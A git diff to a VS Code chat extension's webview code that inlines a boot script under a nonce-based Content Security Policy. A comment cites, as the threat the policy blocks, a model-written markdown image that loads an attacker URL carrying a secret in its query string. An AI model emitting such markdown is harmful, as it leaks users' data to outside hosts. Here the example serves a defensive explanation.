@@ -1,3 +1,4 @@
+import * as fs from 'fs';
 import * as vscode from 'vscode';
 import { escapeHtml } from '../core/escapeHtml';
 import { webviewStrings } from './webviewStrings';
@@ -7,8 +8,20 @@ export function nonce(): string {
   return Buffer.from(globalThis.crypto.getRandomValues(new Uint8Array(16))).toString('base64');
 }
 
+let boot: string | undefined;
+
 /**
- * The chat view's page. The CSP allows only our own bundle (by nonce) and stylesheet, images
+ * The page's first script (src/webview/boot.ts), inline: it says `ready` before the main script
+ * loads, so the state and the script come together; fetched as a file of its own it would cost
+ * a round trip to the extension's files first. Read once; a `</script` in it could not end the tag.
+ */
+function bootScript(extensionUri: vscode.Uri): string {
+  boot ??= fs.readFileSync(vscode.Uri.joinPath(extensionUri, 'dist', 'boot.js').fsPath, 'utf8').replace(/<\/(script)/gi, '<\\/$1');
+  return boot;
+}
+
+/**
+ * The chat view's page. The CSP allows only our own scripts (by nonce) and stylesheet, images
  * from our media folder and data: URIs (attached images' thumbnails), a worker only from a blob
  * the page itself makes, and no network at all: a model's
  * `![x](https://attacker/?q=secret)` cannot load. The webview's strings, localized here, ride
@@ -40,6 +53,7 @@ export function chatHtml(webview: vscode.Webview, extensionUri: vscode.Uri): str
 <meta charset="UTF-8">
 <meta http-equiv="Content-Security-Policy" content="${csp}">
 <meta name="viewport" content="width=device-width, initial-scale=1.0">
+<script nonce="${n}">${bootScript(extensionUri)}</script>
 <link href="${style}" rel="stylesheet">
 <title>Parley</title>
 </head>
